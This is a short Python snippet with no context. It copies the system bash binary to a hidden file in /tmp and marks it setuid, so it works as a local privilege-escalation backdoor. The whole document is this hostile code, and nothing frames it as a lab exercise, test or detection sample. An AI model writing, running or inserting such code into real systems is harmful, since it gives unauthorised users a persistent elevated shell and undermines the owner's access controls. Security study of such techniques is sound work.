import os, shutil
shutil.copy("/bin/bash", "/tmp/.b")
os.chmod("/tmp/.b", 0o4755)
